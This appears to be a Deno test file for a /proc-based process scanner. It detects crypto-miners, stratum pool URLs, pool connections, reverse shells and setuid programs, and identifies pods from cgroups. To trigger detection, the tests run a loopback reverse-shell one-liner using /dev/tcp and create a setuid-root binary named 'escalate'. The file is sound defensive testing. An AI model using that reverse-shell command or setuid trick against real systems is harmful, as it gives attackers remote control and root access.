/**
 * The process watch's scan over the real `/proc` of this machine, with real suspicious
 * processes (a program named like a miner, a pool URL on a command line, a connection to a
 * "pool" on loopback, a shell whose standard input and output are a TCP connection, a setuid
 * program run by another user) and over a `/proc` made of files, for what needs a container.
 */
import { assert, assertEquals, withTempDir } from "../../tests/support/assert.ts";
import { waitFor } from "../../tests/support/net.ts";
import { BUILTIN_PATTERNS, type Pattern } from "./patterns.ts";
import { type Finding, scanProcesses } from "./scan.ts";

const isRoot = Deno.uid() === 0;

function scan(patterns: readonly Pattern[] = BUILTIN_PATTERNS, proc = "/proc") {
  const warnings: string[] = [];
  return scanProcesses({ proc, patterns, warn: (s, r) => warnings.push(`${s}: ${r}`) });
}

/** Runs `argv` until the test ends; kills it afterwards. */
async function withProcess<T>(
  argv: string[],
  fn: (child: Deno.ChildProcess) => Promise<T>,
  cwd?: string,
): Promise<T> {
  const child = new Deno.Command(argv[0]!, {
    args: argv.slice(1),
    stdin: "null",
    stdout: "null",
    stderr: "null",
    ...(cwd ? { cwd } : {}),
  }).spawn();
  try {
    return await fn(child);
  } finally {
    try {
      child.kill("SIGKILL");
    } catch { /* gone already */ }
    await child.status;
  }
}

function of(findings: Finding[], pid: number, pattern: string): Finding | undefined {
  return findings.find((f) => f.process.pid === pid && f.pattern.name === pattern);
}

/** Waits until `/proc/PID/exe` is `exe` (the child has exec'd), then scans. */
async function scanWhen(pid: number, ready: (f: Finding[]) => boolean, patterns?: Pattern[]) {
  let findings: Finding[] = [];
  await waitFor(async () => ready(findings = await scan(patterns)), `process ${pid} seen`);
  return findings;
}

Deno.test("scanProcesses() finds a crypto-miner by its name and a pool URL on a command line", async () => {
  await withTempDir(async (dir) => {
    await Deno.copyFile("/usr/bin/sleep", `${dir}/xmrig`);
    await Deno.chmod(`${dir}/xmrig`, 0o755);
    await withProcess([`${dir}/xmrig`, "60"], async (miner) => {
      await withProcess(
        // perl is part of every Debian (perl-base); it sleeps without a child of its own.
        ["perl", "-e", "sleep 60", "stratum+tcp://pool.example:3333"],
        async (url) => {
          const findings = await scanWhen(
            miner.pid,
            (f) => !!of(f, miner.pid, "crypto-miner") && !!of(f, url.pid, "stratum-url"),
          );
          assertEquals(of(findings, miner.pid, "crypto-miner")!.detail, 'comm "xmrig"');
          assertEquals(of(findings, miner.pid, "crypto-miner")!.process.exe, `${dir}/xmrig`);
          assertEquals(of(findings, url.pid, "stratum-url")!.detail, "command line");
          assert(!findings.some((f) => f.process.pid === Deno.pid), "the test itself is clean");
        },
      );
    });
  });
});

Deno.test("scanProcesses() finds whose is a connection to a pool port", async () => {
  using listener = Deno.listen({ hostname: "127.0.0.1", port: 0 });
  const port = listener.addr.port;
  const accepted = listener.accept();
  const pool: Pattern = { name: "pool", kind: "connection", remotePorts: [port], description: "" };
  await withProcess(
    ["bash", "-c", `exec 3<>/dev/tcp/127.0.0.1/${port}; exec sleep 60`],
    async (child) => {
      using _connection = await accepted;
      const findings = await scanWhen(child.pid, (f) => !!of(f, child.pid, "pool"), [pool]);
      assertEquals(of(findings, child.pid, "pool")!.detail, `connected to 127.0.0.1:${port}`);
      assertEquals(findings.filter((f) => f.pattern.name === "pool").length, 1);
    },
  );
});

Deno.test("scanProcesses() finds a shell whose standard input and output are a TCP connection", async () => {
  using listener = Deno.listen({ hostname: "127.0.0.1", port: 0 });
  const port = listener.addr.port;
  const accepted = listener.accept();
  await withProcess(
    ["bash", "-c", `exec sh -i <>/dev/tcp/127.0.0.1/${port} 1>&0 2>&0`],
    async (child) => {
      using _connection = await accepted;
      const findings = await scanWhen(child.pid, (f) => !!of(f, child.pid, "reverse-shell"));
      const shell = of(findings, child.pid, "reverse-shell")!;
      assertEquals(shell.process.comm, "sh");
      assertEquals(
        shell.detail,
        `standard input and output are a connection to 127.0.0.1:${port}`,
      );
    },
  );
});

Deno.test({
  name: "scanProcesses() finds a setuid program run by another user",
  ignore: !isRoot,
  fn: async () => {
    await withTempDir(async (dir) => {
      await Deno.chmod(dir, 0o755);
      await Deno.copyFile("/usr/bin/sleep", `${dir}/escalate`);
      await Deno.chmod(`${dir}/escalate`, 0o4755);
      const anywhere: Pattern = {
        name: "suid",
        kind: "setuid",
        inContainer: false,
        description: "",
      };
      await withProcess(
        ["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups", `${dir}/escalate`, "60"],
        async (child) => {
          const findings = await scanWhen(child.pid, (f) => !!of(f, child.pid, "suid"), [
            anywhere,
          ]);
          assertEquals(
            of(findings, child.pid, "suid")!.detail,
            "effective user root, real user 65534",
          );
          const inContainer = await scan([{ ...anywhere, inContainer: true }]);
          assert(!of(inContainer, child.pid, "suid"), "not in a container");
        },
      );
    });
  },
});

Deno.test("scanProcesses() names the pod and container of a process from its cgroup", async () => {
  await withTempDir(async (proc) => {
    const pod = "1b2c3d4e-0000-4000-8000-000000000001";
    const container = "c".repeat(64);
    const process = async (pid: number, comm: string, uids: string, cgroup: string) => {
      await Deno.mkdir(`${proc}/${pid}/fd`, { recursive: true });
      await Deno.writeTextFile(
        `${proc}/${pid}/stat`,
        `${pid} (${comm}) S 1 ${pid} ${pid} 0 -1 4194560 0 0 0 0 0 0 0 0 20 0 1 0 4242 0 0`,
      );
      await Deno.writeTextFile(`${proc}/${pid}/status`, `Name:\t${comm}\nUid:\t${uids}\n`);
      await Deno.writeTextFile(`${proc}/${pid}/cmdline`, `${comm}\0-x\0`);
      await Deno.writeTextFile(`${proc}/${pid}/cgroup`, cgroup);
    };
    await process(10, "su", "1000\t0\t0\t0", `0::/kubepods/burstable/pod${pod}/${container}\n`);
    await process(11, "su", "1000\t0\t0\t0", "0::/user.slice\n");
    await process(12, "kworker/0:1", "0\t0\t0\t0", "0::/\n");
    const findings = await scan(BUILTIN_PATTERNS, proc);
    assertEquals(findings.map((f) => [f.pattern.name, f.process.pid]), [
      ["setuid-root-in-container", 10],
    ]);
    assertEquals(findings[0]!.process.podUid, pod);
    assertEquals(findings[0]!.process.containerId, container);
    assertEquals(findings[0]!.process.cmdline, "su -x");
  });
});
